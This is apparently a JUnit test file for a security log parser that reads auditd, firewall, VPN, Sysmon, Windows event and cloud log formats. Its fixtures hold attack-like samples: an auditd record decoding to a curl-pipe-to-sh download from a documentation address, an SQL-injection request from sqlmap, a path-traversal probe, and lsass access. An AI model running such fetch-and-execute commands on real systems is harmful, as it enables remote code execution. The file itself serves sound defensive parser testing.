package io.cybershield.shield.gateway.triage.logs;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

import static io.cybershield.shield.gateway.triage.logs.ParsedLines.parsed;

/**
 * Formats and fields added in the second round, each a class of line the first round did not read: auditd EXECVE
 * arguments hex-encoded one by one, pfSense/OPNsense filterlog CSV, snoopy, Ivanti Connect Secure, the Duo
 * authentication proxy, PAN-OS GLOBALPROTECT records, and appliance lines whose syslog header has an unknown
 * program. Lines written here, with documentation addresses.
 */
class Round2LinesTest {

  private static String hex(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      out.append(String.format("%02X", b));
    }
    return out.toString();
  }

  @Test
  void execveHexArgumentsAreDecodedAndJoinedIntoTheProcessTitle() {
    parsed(LogSource.AUDITD, "type=EXECVE msg=audit(1767000000.010:4242): argc=3 a0=\"sh\" a1=\"-c\" a2="
        + hex("curl -s http://198.51.100.20/a | sh"))
        .is(LogSource.AUDITD, LogFormat.AUDITD)
        .has("a2", "curl -s http://198.51.100.20/a | sh")
        .has("a2_hex", hex("curl -s http://198.51.100.20/a | sh"))
        .has("proctitle", "sh -c curl -s http://198.51.100.20/a | sh")
        .has("command", "sh -c curl -s http://198.51.100.20/a | sh");
  }

  @Test
  void quotedArgumentsThatLookLikeHexStayAsTheyAre() {
    parsed(LogSource.AUDITD, "type=EXECVE msg=audit(1767000000.020:4243): argc=4 a0=\"chmod\" a1=\"4755\" "
        + "a2=\"cafe\" a3=\"/usr/local/bin/tool\"")
        .has("a1", "4755").has("a2", "cafe").lacks("a1_hex")
        .has("proctitle", "chmod 4755 cafe /usr/local/bin/tool");
  }

  @Test
  void execveWithAnExistingProcessTitleKeepsIt() {
    parsed(LogSource.AUDITD, "type=EXECVE msg=audit(1767000000.030:4244): argc=2 a0=\"id\" a1=\"-u\"")
        .has("command", "id -u").has("proctitle", "id -u");
  }

  @Test
  void pfSenseFilterlogIpv4Tcp() {
    parsed(LogSource.AUTO, "Jan 14 08:11:02 gw-a filterlog[4312]: 5,,,1000000103,em0,match,block,in,4,0x0,,52,"
        + "18020,0,DF,6,tcp,60,203.0.113.77,192.0.2.10,51515,3389,0,S,1234567,,64240,,mss;sackOK;TS;nop;wscale")
        .is(LogSource.FIREWALL, LogFormat.SYSLOG).has("program", "filterlog").has("action", "deny")
        .has("proto", "tcp").has("src_ip", "203.0.113.77").has("dst_ip", "192.0.2.10").has("src_port", "51515")
        .has("dst_port", "3389").has("direction", "in").has("interface", "em0");
  }

  @Test
  void pfSenseFilterlogIpv6UdpPass() {
    parsed(LogSource.FIREWALL, "filterlog[77]: 9,,,1000000201,igb1,match,pass,out,6,0x00,0x00000,64,udp,17,72,"
        + "2001:db8::5,2001:db8:1::53,40000,53,72")
        .is(LogSource.FIREWALL, LogFormat.CSV).has("action", "allow").has("proto", "udp")
        .has("src_ip", "2001:db8::5").has("dst_ip", "2001:db8:1::53").has("dst_port", "53");
  }

  @Test
  void pfSenseFilterlogIcmpHasNoPorts() {
    parsed(LogSource.FIREWALL, "Jan 14 08:11:09 gw-a filterlog[4312]: 5,,,1000000103,em0,match,block,in,4,0x0,,"
        + "55,0,0,none,1,icmp,84,203.0.113.9,192.0.2.10,request,77,1")
        .has("proto", "icmp").has("src_ip", "203.0.113.9").lacks("dst_port");
  }

  @Test
  void snoopyExecutionRecord() {
    parsed(LogSource.LINUX_SYSLOG, "Feb  9 02:14:55 app-7 snoopy[3321]: [uid:48 sid:2210 tty:(none) cwd:/var/tmp "
        + "filename:/usr/bin/uname login:apache]: uname -a")
        .has("program", "snoopy").has("user", "apache").has("command", "uname -a").has("pwd", "/var/tmp")
        .has("uid", "48").has("Image", "/usr/bin/uname");
  }

  @Test
  void ivantiConnectSecureLoginFailure() {
    parsed(LogSource.VPN, "2027-01-05 09:12:44 - vpn-gw - [198.51.100.61] rsingh(Staff)[] - AUT24414: Login "
        + "failed using auth server CORP-LDAP (LDAP Server).  Reason: Failed")
        .is(LogSource.VPN, LogFormat.SYSLOG).has("user", "rsingh").has("src_ip", "198.51.100.61")
        .has("outcome", "failure");
  }

  @Test
  void ivantiSystemMessagesHaveNoUser() {
    parsed(LogSource.VPN, "2027-01-05 09:13:00 - vpn-gw - [198.51.100.62] System()[] - WEB20174: Unauthenticated "
        + "request url /dana-na/../probe came from IP 198.51.100.62.")
        .is(LogSource.VPN, LogFormat.SYSLOG).lacks("user");
  }

  @Test
  void duoAuthProxyDenial() {
    parsed(LogSource.AUTO, "Mar 11 17:40:02 mfa-proxy authproxy: [duoauthproxy.lib.log] Duo authentication "
        + "returned 'deny': 'Push request denied' for user 'ptran' [client 10.1.0.5] (RADIUS, src 203.0.113.140)")
        .is(LogSource.VPN, LogFormat.SYSLOG).has("user", "ptran").has("src_ip", "203.0.113.140")
        .has("outcome", "failure");
  }

  @Test
  void globalProtectRecordFields() {
    parsed(LogSource.AUTO, "1,2027/02/01 10:00:00,013201009999,GLOBALPROTECT,0,2817,2027/02/01 10:00:00,vsys1,"
        + "gateway-auth,login,SAML,,amartin,FR,WS-2231,192.0.2.200,0.0.0.0,0.0.0.0,0.0.0.0,111,Windows,"
        + "\"Windows 11, 64-bit\",6.2.1,,\"\",success,,0,,GW-1,1,0x8000000000000000,2027-02-01T10:00:00Z,,,,,,")
        .is(LogSource.VPN, LogFormat.CSV).has("user", "amartin").has("src_ip", "192.0.2.200")
        .has("country", "FR").has("outcome", "success").has("auth_method", "SAML");
  }

  @Test
  void sysmonMessageRenderedOnOneLineBySplunk() {
    parsed(LogSource.SYSMON, "01/15/2027 09:30:00 AM LogName=Microsoft-Windows-Sysmon/Operational "
        + "SourceName=Microsoft-Windows-Sysmon EventCode=10 EventType=4 Type=Information ComputerName=ws-9.example.org "
        + "Message=Process accessed: RuleName: - UtcTime: 2027-01-15 09:30:00.000 SourceProcessId: 4410 "
        + "SourceImage: C:\\Users\\kim\\AppData\\Local\\Temp\\t.exe TargetProcessId: 700 "
        + "TargetImage: C:\\Windows\\System32\\lsass.exe GrantedAccess: 0x1410 "
        + "CallTrace: C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF8A1B2C3D4)")
        .is(LogSource.SYSMON, LogFormat.KEY_VALUE).has("EventID", "10")
        .has("SourceImage", "C:\\Users\\kim\\AppData\\Local\\Temp\\t.exe")
        .has("TargetImage", "C:\\Windows\\System32\\lsass.exe").has("GrantedAccess", "0x1410")
        .has("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF8A1B2C3D4)");
  }

  @Test
  void journaldJsonExportIsReadLikeSyslog() {
    parsed(LogSource.AUTO, "{\"__REALTIME_TIMESTAMP\":\"1767225600123456\",\"_HOSTNAME\":\"bastion-2\","
        + "\"SYSLOG_IDENTIFIER\":\"sshd\",\"_PID\":\"4021\",\"PRIORITY\":\"6\",\"MESSAGE\":\"Failed password for "
        + "root from 203.0.113.91 port 50122 ssh2\"}")
        .is(LogSource.LINUX_AUTH, LogFormat.JSON).has("program", "sshd").has("host", "bastion-2").has("pid", "4021")
        .has("user", "root").has("src_ip", "203.0.113.91").has("outcome", "failure").has("timestamp", "1767225600");
  }

  @Test
  void snareTabSeparatedWindowsEvent() {
    parsed(LogSource.AUTO, "<14>Jan 20 11:00:00 FS-3 MSWinEventLog\t1\tSecurity\t8812\tTue Jan 20 11:00:00 2027\t"
        + "4625\tMicrosoft-Windows-Security-Auditing\tN/A\tN/A\tFailure Audit\tFS-3.example.org\tLogon\t\tAn "
        + "account failed to log on.  Subject: Security ID: S-1-0-0 Account Name: - Logon Type: 3  Account For Which "
        + "Logon Failed: Security ID: S-1-0-0 Account Name: lwilson Account Domain: EXAMPLE  Network Information: "
        + "Source Network Address: 198.51.100.33 Source Port: 0\t101")
        .is(LogSource.WINDOWS_SECURITY, LogFormat.SYSLOG).has("EventID", "4625").has("Channel", "Security")
        .has("Computer", "FS-3.example.org").has("TargetUserName", "lwilson").has("IpAddress", "198.51.100.33");
  }

  @Test
  void snareWithTabsEscapedByTheRelay() {
    parsed(LogSource.AUTO, "Jan 20 11:00:05 FS-3 MSWinEventLog#0111#011System#0118813#011Tue Jan 20 11:00:05 2027"
        + "#0117045#011Service Control Manager#011N/A#011N/A#011Information#011FS-3.example.org#011None#011#011A "
        + "service was installed in the system.  Service Name: updsvc  Service File Name: C:\\Users\\Public\\u.exe  "
        + "Service Type: user mode service  Service Start Type: auto start  Service Account: LocalSystem#011102")
        .is(LogSource.WINDOWS_SYSTEM, LogFormat.SYSLOG).has("EventID", "7045").has("ServiceName", "updsvc");
  }

  @Test
  void winlogbeatEcsFieldsGetTheSigmaNames() {
    parsed(LogSource.AUTO, "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":\"3\","
        + "\"provider_name\":\"Microsoft-Windows-Sysmon\"},\"process\":{\"executable\":\"C:\\\\Windows\\\\"
        + "System32\\\\rundll32.exe\"},\"destination\":{\"ip\":\"198.51.100.5\",\"port\":443},\"file\":{\"path\":"
        + "\"C:\\\\Temp\\\\a.txt\"}}")
        .is(LogSource.SYSMON, LogFormat.JSON).has("Image", "C:\\Windows\\System32\\rundll32.exe")
        .has("DestinationIp", "198.51.100.5").has("DestinationPort", "443").has("TargetFilename", "C:\\Temp\\a.txt");
  }

  @Test
  void accessLogInsideADockerJsonFileRecord() {
    parsed(LogSource.AUTO, "{\"log\":\"198.51.100.14 - - [21/Jan/2027:08:00:00 +0000] \\\"GET /search?q=%27%20OR%201%3D1"
        + "-- HTTP/1.1\\\" 200 512 \\\"-\\\" \\\"sqlmap/1.8\\\"\\n\",\"stream\":\"stdout\",\"time\":"
        + "\"2027-01-21T08:00:00.1Z\"}")
        .is(LogSource.WEB_ACCESS, LogFormat.JSON).has("client_ip", "198.51.100.14").has("method", "GET")
        .has("status", "200").has("user_agent", "sqlmap/1.8");
  }

  @Test
  void kubernetesAuditEventInsideACloudWatchExport() {
    parsed(LogSource.AUTO, "{\"@timestamp\":\"2027-01-21 08:00:00.000\",\"@logStream\":\"kube-apiserver-audit-1\","
        + "\"@message\":\"{\\\"kind\\\":\\\"Event\\\",\\\"apiVersion\\\":\\\"audit.k8s.io/v1\\\","
        + "\\\"verb\\\":\\\"create\\\",\\\"user\\\":{\\\"username\\\":\\\"dev@example.org\\\"},"
        + "\\\"objectRef\\\":{\\\"resource\\\":\\\"pods\\\",\\\"subresource\\\":\\\"exec\\\"},"
        + "\\\"sourceIPs\\\":[\\\"192.0.2.7\\\"]}\"}")
        .is(LogSource.KUBERNETES_AUDIT, LogFormat.JSON).has("verb", "create").has("objectRef.subresource", "exec")
        .has("user", "dev@example.org");
  }

  @Test
  void plainApplicationMessagesInsideJsonStayAsTheyAre() {
    parsed(LogSource.AUTO, "{\"level\":\"info\",\"log\":\"cache warmed in 120 ms\",\"service\":\"catalog\"}")
        .is(LogSource.AUTO, LogFormat.JSON).has("log", "cache warmed in 120 ms");
  }

  @Test
  void vpcFlowLogDefaultFormat() {
    parsed(LogSource.FIREWALL, "2 111122223333 eni-0a1b2c3d4e5f60718 203.0.113.200 10.0.1.25 51000 22 6 3 180 "
        + "1767225600 1767225660 REJECT OK")
        .is(LogSource.FIREWALL, LogFormat.TEXT).has("src_ip", "203.0.113.200").has("dst_ip", "10.0.1.25")
        .has("dst_port", "22").has("proto", "tcp").has("action", "deny").has("bytes_out", "180");
  }

  @Test
  void vpcFlowLogInsideACloudWatchRecord() {
    parsed(LogSource.AUTO, "{\"timestamp\":1767225600000,\"message\":\"2 111122223333 eni-0a1b2c3d4e5f60718 "
        + "10.0.1.25 198.51.100.250 40100 4444 6 12 900 1767225600 1767225660 ACCEPT OK\"}")
        .is(LogSource.FIREWALL, LogFormat.JSON).has("dst_port", "4444").has("action", "allow");
  }
}
